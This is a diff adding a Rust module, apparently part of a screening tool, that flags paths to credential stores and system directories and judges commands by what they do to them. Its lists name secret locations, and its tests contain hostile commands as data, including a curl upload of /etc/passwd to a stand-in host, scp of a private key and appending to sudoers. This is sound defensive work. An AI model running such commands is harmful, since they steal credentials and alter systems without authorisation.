@@ -1,0 +1,547 @@
+//! Paths to secrets, and what commands do to the directories of a system.
+//!
+//! Flags a string that is the path of a system directory (`/etc`, `/usr`, `/var`) or of something in it; a command that
+//! reads from `/etc` or changes any of them; and, wherever they stand, the places where keys and passwords lie, in a home or
+//! in the system.
+//!
+//! Leaves alone addresses, names further down another path, sentences and comments, programs that are run, and commands
+//! that only look: whether something exists, what a directory holds, what is in `/usr` and `/var`. Directories for temporary
+//! files and public halves of keys are not sensitive.
+
+use std::ops::Range;
+
+use super::{
+    Judge, Report, commands,
+    invocation::{self, Invocation},
+    lexer::Word,
+    paths::{self, is_within, normalise},
+    prose,
+};
+use crate::prefilter::ByteKinds;
+
+pub(super) const JUDGE: Judge = Judge {
+    needs: ByteKinds::NONE,
+    words: &[
+        "/etc",
+        "/usr",
+        "/var",
+        "/proc/",
+        "/root",
+        "/run/secrets",
+        ".ssh",
+        ".aws",
+        ".gnupg",
+        ".kube",
+        ".docker",
+        ".netrc",
+        ".pgpass",
+        ".git-credentials",
+        ".pypirc",
+        ".azure",
+        ".config/gcloud",
+        ".password-store",
+        "keychains",
+        "bash_history",
+        "zsh_history",
+        "mysql_history",
+        "psql_history",
+        ".cargo/cred",
+        ".gem/cred",
+        ".terraform.d",
+        ".config/gh",
+        "system32",
+        "ntds",
+        "docker.sock",
+    ],
+    read: judge,
+};
+
+/// What a path leads to.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Place {
+    /// Keys and passwords.
+    Secrets,
+    /// `/etc`: what a system is set up with.
+    Settings,
+    /// `/usr` and `/var`: programs and data that anyone may read.
+    Shared,
+}
+
+impl Place {
+    fn rule(self) -> &'static str {
+        match self {
+            Place::Secrets => "secrets-directory",
+            Place::Settings | Place::Shared => "system-directory",
+        }
+    }
+}
+
+/// Where secrets lie in a home.
+const IN_HOME: &[&str] = &[
+    ".ssh",
+    ".aws",
+    ".gnupg",
+    ".kube/config",
+    ".docker/config.json",
+    ".netrc",
+    ".pgpass",
+    ".git-credentials",
+    ".pypirc",
+    ".azure",
+    ".config/gcloud",
+    ".config/gh/hosts.yml",
+    ".password-store",
+    "library/keychains",
+    ".bash_history",
+    ".zsh_history",
+    ".mysql_history",
+    ".psql_history",
+    ".cargo/credentials",
+    ".cargo/credentials.toml",
+    ".gem/credentials",
+    ".terraform.d/credentials.tfrc.json",
+];
+
+/// Where secrets lie in a system.
+const IN_SYSTEM: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/passwd-",
+    "/etc/shadow-",
+    "/etc/gshadow",
+    "/etc/master.passwd",
+    "/etc/sudoers",
+    "/etc/sudoers.d",
+    "/etc/ssh",
+    "/etc/ssl/private",
+    "/etc/kubernetes",
+    "/etc/krb5.keytab",
+    "/etc/pam.d",
+    "/etc/security",
+    "/root",
+    "/run/secrets",
+    "/var/run/secrets",
+    "/var/run/docker.sock",
+    "/run/docker.sock",
+    "/var/spool/cron",
+    "/proc/kcore",
+    "/etc/crontab",
+    "/windows/system32/config",
+    "/windows/ntds",
+    "/windows/repair/sam",
+];
+
+/// What is in `/etc` that says no more of a system than its name.
+const PUBLIC: &[&str] = &[
+    "/etc/os-release",
+    "/etc/lsb-release",
+    "/etc/debian_version",
+    "/etc/redhat-release",
+    "/etc/alpine-release",
+    "/etc/issue",
+    "/etc/timezone",
+    "/etc/localtime",
+    "/etc/mime.types",
+    "/etc/ssl/certs",
+    "/etc/services",
+    "/etc/protocols",
+];
+
+/// Directories for temporary files within those of the system.
+const TEMPORARY: &[&str] = &["/var/tmp", "/var/folders", "/usr/tmp"];
+
+/// Commands that only look whether something is there, or what.
+const LOOKING: &[&str] = &[
+    "[", "[[", "basename", "cd", "command", "df", "dirname", "du", "echo", "file", "find", "fd",
+    "grep", "hash", "ldd", "locate", "ls", "man", "printf", "pushd", "pwd", "readlink", "realpath",
+    "rg", "stat", "test", "tree", "type", "whereis", "which", "git",
+];
+
+/// Of these, the ones that do not even list what is there.
+const ASKING: &[&str] = &[
+    "[", "[[", "basename", "command", "dirname", "echo", "file", "git", "hash", "printf", "stat",
+    "test", "type", "which",
+];
+
+/// Commands that change what they are given.
+const CHANGING: &[&str] = &[
+    "chattr", "chgrp", "chmod", "chown", "cp", "dd", "emacs", "install", "ln", "mkdir", "mv",
+    "nano", "patch", "rm", "rmdir", "rsync", "setfacl", "shred", "sponge", "tee", "touch",
+    "truncate", "unlink", "unzip", "vi", "vim",
+];
+
+/// Of these, the ones that change only their last operand.
+const COPYING: &[&str] = &["cp", "install", "ln", "rsync"];
+
+fn judge(text: &str, report: Report<'_>) {
+    let trimmed = text.trim();
+    let whole = trimmed.trim_matches(['"', '\'', '`']);
+    if !whole.contains(char::is_whitespace)
+        && let Some(place) = parts(whole).find_map(classify)
+    {
+        let start = text.len() - text.trim_start().len();
+        return report(place.rule(), start..start + trimmed.len());
+    }
+    invocation::visit(text, &mut |run, range| in_command(run, &range, report));
+    anywhere(text, report);
+}
+
+/// The paths that a program is given.
+fn in_command(run: &Invocation<'_>, range: &Range<usize>, report: Report<'_>) {
+    let is_written = *range == run.command.range;
+    let at = |word: &Word| {
+        if is_written {
+            word.range.clone()
+        } else {
+            range.clone()
+        }
+    };
+    for redirect in &run.command.redirects {
+        let place = parts(&redirect.target.text).find_map(classify);
+        if run.name.is_empty()
+            && place.is_some_and(|place| redirect.writes || place != Place::Shared)
+        {
+            report(place.map_or("", Place::rule), at(&redirect.target));
+        }
+    }
+    let last = run.args.iter().rposition(|word| !word.is_option());
+    for (index, word) in run.args.iter().enumerate() {
+        if word.quoted && word.text.contains(' ') {
+            continue;
+        }
+        let Some(place) = parts(&word.text).find_map(classify) else {
+            continue;
+        };
+        let is_changed = CHANGING.contains(&run.name)
+            && (!COPYING.contains(&run.name) || Some(index) == last)
+            || run.name == "sed" && run.args.iter().any(|word| word.text.starts_with("-i"))
+            || run.name == "find" && run.args.iter().any(|word| word.text == "-delete");
+        let is_written_to = ["-o", "-O", "--output"].contains(
+            &index
+                .checked_sub(1)
+                .and_then(|before| run.args.get(before))
+                .map_or("", |word| word.text.as_str()),
+        ) && ["curl", "wget"].contains(&run.name)
+            || word.text.starts_with("of=");
+        let flagged = match place {
+            Place::Secrets => {
+                is_program(run.name)
+                    && !ASKING.contains(&run.name)
+                    && !(["grep", "rg"].contains(&run.name) && word.quoted)
+            }
+            Place::Settings => {
+                is_changed || is_written_to || !LOOKING.contains(&run.name) && is_program(run.name)
+            }
+            Place::Shared => is_changed || is_written_to,
+        };
+        if flagged {
+            report(place.rule(), at(word));
+        }
+    }
+}
+
+/// Whether a word can be the name of a program, rather than of a line in a log or a file of settings.
+fn is_program(name: &str) -> bool {
+    commands::is_known(name)
+        || name.len() <= 20
+            && name
+                .bytes()
+                .next()
+                .is_some_and(|byte| byte.is_ascii_lowercase())
+            && name.bytes().all(|byte| {
+                byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-_.+".contains(&byte)
+            })
+}
+
+/// Paths to secrets wherever they stand, but for sentences, comments and the arguments of known commands, which are judged
+/// by what the command does.
+fn anywhere(text: &str, report: Report<'_>) {
+    let mut line_start = 0;
+    for line in text.split_inclusive('\n') {
+        let mut start = 0;
+        let mut is_data = None;
+        for (at, byte) in line.bytes().chain([b' ']).enumerate() {
+            if !(byte.is_ascii_whitespace() || b"'\"`<>|()[]{},=&;*".contains(&byte)) {
+                continue;
+            }
+            let token = line.get(start..at).unwrap_or_default();
+            let place = if token.contains(['/', '\\']) {
+                parts(token).find_map(classify)
+            } else {
+                None
+            };
+            if place == Some(Place::Secrets) && !*is_data.get_or_insert_with(|| is_data_line(line))
+            {
+                report(Place::Secrets.rule(), line_start + start..line_start + at);
+            }
+            start = at + 1;
+        }
+        line_start += line.len();
+    }
+}
+
+/// Whether a path on the line is a mention, or the argument of a command that is judged elsewhere.
+fn is_data_line(line: &str) -> bool {
+    let line = line.trim_start();
+    let first = line.split_ascii_whitespace().next().unwrap_or_default();
+    let runs_code = |name: &str| commands::SHELLS.contains(&name) || commands::is_interpreter(name);
+    first.starts_with('#')
+        || ["//", "--", "/*", "*", ";"].contains(&first)
+        || (commands::is_known(first) && !runs_code(first))
+        || prose::is_line(line.as_bytes())
+}
+
+/// The paths that a word holds: it may be the value of an option, a list of paths, or a path on another host.
+fn parts(word: &str) -> impl Iterator<Item = &str> {
+    let is_address = word.contains("://") && !word.starts_with("file://");
+    let word = word.strip_prefix("file://").unwrap_or(word);
+    let word = word.split_once('=').map_or(word, |(_, value)| value);
+    let word = word.trim_start_matches('@');
+    let drive = word.get(1..2) == Some(":")
+        && word
+            .get(2..3)
+            .is_some_and(|slash| slash == "\\" || slash == "/");
+    let rest = if drive {
+        word.get(2..).unwrap_or_default()
+    } else {
+        word
+    };
+    rest.split(':').filter(move |_| !is_address)
+}
+
+/// What the path leads to, if it is sensitive.
+fn classify(path: &str) -> Option<Place> {
+    let slashed = path.replace('\\', "/");
+    let trimmed = slashed.trim_end_matches(['.', ',', ';', '!', '?']);
+    if let Some(inside) = home(trimmed) {
+        let inside = normalise(inside.trim_start_matches('/')).to_ascii_lowercase();
+        let is_public = inside
+            .rsplit_once('.')
+            .is_some_and(|(_, suffix)| suffix == "pub");
+        let secret = IN_HOME
+            .iter()
+            .any(|directory| is_within(&inside, directory));
+        if secret && !is_public {
+            return Some(Place::Secrets);
+        }
+    }
+    if !trimmed.starts_with('/') {
+        return None;
+    }
+    let normal = normalise(trimmed);
+    let path = normal
+        .strip_prefix("/private")
+        .filter(|rest| rest.starts_with('/'))
+        .unwrap_or(&normal);
+    let lower = path.to_ascii_lowercase();
+    let within = |directories: &[&str]| {
+        directories
+            .iter()
+            .any(|directory| is_within(&lower, directory))
+    };
+    if within(TEMPORARY) || within(PUBLIC) || ["/etc/ssh/ssh_known_hosts"].contains(&path) {
+        return None;
+    }
+    if within(IN_SYSTEM) || is_process_secret(path) {
+        return Some(Place::Secrets);
+    }
+    if is_within(path, "/etc") {
+        return Some(Place::Settings);
+    }
+    (is_within(path, "/usr") || is_within(path, "/var")).then_some(Place::Shared)
+}
+
+/// Whether the path shows the environment or the memory of a process.
+fn is_process_secret(path: &str) -> bool {
+    let inside = path
+        .strip_prefix("/proc/")
+        .and_then(|rest| rest.split_once('/'));
+    inside.is_some_and(|(_, file)| {
+        let file = file.rsplit('/').next().unwrap_or(file);
+        ["environ", "mem", "maps", "cmdline", "auxv"].contains(&file) || file == "root"
+    })
+}
+
+/// What follows the home that the path starts with.
+fn home(path: &str) -> Option<&str> {
+    if let Some(rest) = path.strip_prefix('~') {
+        return rest.find('/').and_then(|at| rest.get(at..));
+    }
+    if let Some((name, rest)) = paths::variable(path) {
+        return ["HOME", "USERPROFILE", "env"].contains(&name).then(|| {
+            rest.trim_start_matches(":USERPROFILE")
+                .trim_start_matches(":HOME")
+        });
+    }
+    if let Some(rest) = path
+        .get(..13)
+        .filter(|start| start.eq_ignore_ascii_case("%userprofile%"))
+        .and_then(|_| path.get(13..))
+    {
+        return Some(rest);
+    }
+    if path.starts_with(".ssh/") || path.starts_with(".aws/") || path.starts_with(".gnupg/") {
+        return Some(path);
+    }
+    let normal_start = path.trim_start_matches('/');
+    if !path.starts_with('/') {
+        return None;
+    }
+    let normal_start = normal_start
+        .strip_prefix("private/")
+        .unwrap_or(normal_start);
+    if let Some(rest) = normal_start.strip_prefix("root/") {
+        return Some(rest);
+    }
+    let (homes, rest) = normal_start.split_once('/')?;
+    if !["home", "users"].contains(&homes.to_ascii_lowercase().as_str()) {
+        return None;
+    }
+    rest.find('/').and_then(|at| rest.get(at..))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(text: &str, expected: &[&str]) {
+        let mut found = Vec::new();
+        judge(text, &mut |_, range| found.extend(text.get(range)));
+        found.dedup();
+        assert_eq!(found, expected, "{text}");
+        let asked = super::super::Asked::new(JUDGE).unwrap();
+        assert!(
+            expected.is_empty() || asked.has_word(text.as_bytes()),
+            "a word of {text}"
+        );
+    }
+
+    #[test]
+    fn paths_by_themselves_are_flagged() {
+        for path in [
+            "/etc",
+            "/etc/passwd",
+            "/etc/nginx/nginx.conf",
+            "/usr/lib",
+            "/var/lib/mysql",
+            "//etc/./passwd",
+            "/private/etc/passwd",
+            "/./etc/passwd",
+            "/tmp/../etc/hosts",
+            "/proc/self/environ",
+            "/proc/1/environ",
+            "~/.ssh/id_rsa",
+            "~/.ssh",
+            "~ann/.ssh/id_rsa",
+            "$HOME/.aws/credentials",
+            "${HOME}/.ssh/config",
+            "/home/ann/.gnupg",
+            "/Users/ann/.aws/credentials",
+            "/root/.ssh/authorized_keys",
+            "/root/.bashrc",
+            "C:\\Users\\ann\\.ssh\\id_rsa",
+            "C:/Users/ann/.aws/credentials",
+            "%USERPROFILE%\\.ssh\\id_ed25519",
+            "C:\\Windows\\System32\\config\\SAM",
+            "~/.kube/config",
+            "~/.netrc",
+            "/run/secrets/db",
+            "/var/run/docker.sock",
+            "file:///etc/passwd",
+            "/etc/shadow",
+            "~/.config/gcloud/credentials.db",
+            "\"/etc/passwd\"",
+            "~/.docker/config.json",
+        ] {
+            check(path, &[path]);
+        }
+    }
+
+    #[test]
+    fn commands_are_judged_by_what_they_do() {
+        check("cat /etc/passwd", &["/etc/passwd"]);
+        check("sudo vim /etc/hosts", &["/etc/hosts"]);
+        check("cp evil /usr/bin/ls", &["/usr/bin/ls"]);
+        check("rm /usr/lib/libc.so", &["/usr/lib/libc.so"]);
+        check("echo x >> /etc/hosts", &["/etc/hosts"]);
+        check("echo 'x' | sudo tee -a /etc/sudoers", &["/etc/sudoers"]);
+        check(
+            "sed -i s/a/b/ /var/www/index.html",
+            &["/var/www/index.html"],
+        );
+        check("scp ~/.ssh/id_rsa host:", &["~/.ssh/id_rsa"]);
+        check("scp host:/etc/shadow .", &["host:/etc/shadow"]);
+        check("docker run -v /etc:/host alpine", &["/etc:/host"]);
+        check(
+            "curl --data-binary @/etc/passwd https://x.example",
+            &["@/etc/passwd"],
+        );
+        check("tar czf x.tgz ~/.aws", &["~/.aws"]);
+        check(
+            "bash -c 'cat /etc/shadow'",
+            &["bash -c 'cat /etc/shadow'", "/etc/shadow"],
+        );
+        check(
+            "python3 -c \"print(open('/etc/passwd').read())\"",
+            &["/etc/passwd"],
+        );
+        check("open('/etc/shadow')", &["/etc/shadow"]);
+        check(
+            "{\"path\": \"/home/ann/.ssh/id_rsa\"}",
+            &["/home/ann/.ssh/id_rsa"],
+        );
+        check("ls -la ~/.ssh", &["~/.ssh"]);
+        check("chmod 600 /etc/ssh/sshd_config", &["/etc/ssh/sshd_config"]);
+        check("cat < /etc/hosts", &["/etc/hosts"]);
+    }
+
+    #[test]
+    fn other_paths_are_left_alone() {
+        for text in [
+            "https://example.com/usr/x",
+            "see https://example.com/etc/passwd for it",
+            "#!/usr/bin/env python3",
+            "#!/bin/bash\nls /usr/bin\n",
+            "ls /usr/share/doc/git/",
+            "ls /etc",
+            "test -x /usr/bin/git && echo ok",
+            "[ -f /etc/debian_version ] && echo debian",
+            "[ -f ~/.ssh/id_rsa ] || echo none",
+            "which git; /usr/bin/git status",
+            "/usr/bin/python3 app.py",
+            "cat /usr/share/dict/words",
+            "tail -f /var/log/syslog",
+            "cat /etc/os-release",
+            "Our SOC wrote a Falco rule to alert on /etc/shadow reads.",
+            "Never commit anything from ~/.ssh to the repository.",
+            "# reads /etc/passwd",
+            "// see /etc/shadow",
+            "echo '/etc/passwd'",
+            "git commit -m 'stop reading /etc/passwd'",
+            "grep -rn '/etc/passwd' src",
+            "/var/tmp/x",
+            "/private/var/folders/ab/T/x",
+            "/tmp/etc/passwd",
+            "/etcetera",
+            "/etc-old/x",
+            "/usr2",
+            "./etc/passwd",
+            "src/etc/passwd",
+            "application/etc",
+            "text/usr",
+            "example.com/usr/x",
+            "~/.sshrc",
+            "~/.ssh/id_rsa.pub",
+            "~/projects/.ssh-tool",
+            "/proc/cpuinfo",
+            "/home/ann/src",
+            "File \"/usr/lib/python3.11/json/decoder.py\", line 337, in decode",
+            "export PATH=/usr/local/bin:$PATH",
+            "gcc -I/usr/include -L /usr/lib x.c",
+            "cp /usr/share/zoneinfo/UTC ./tz",
+            "https://x.io/.aws/config",
+        ] {
+            check(text, &[]);
+        }
+    }
+}
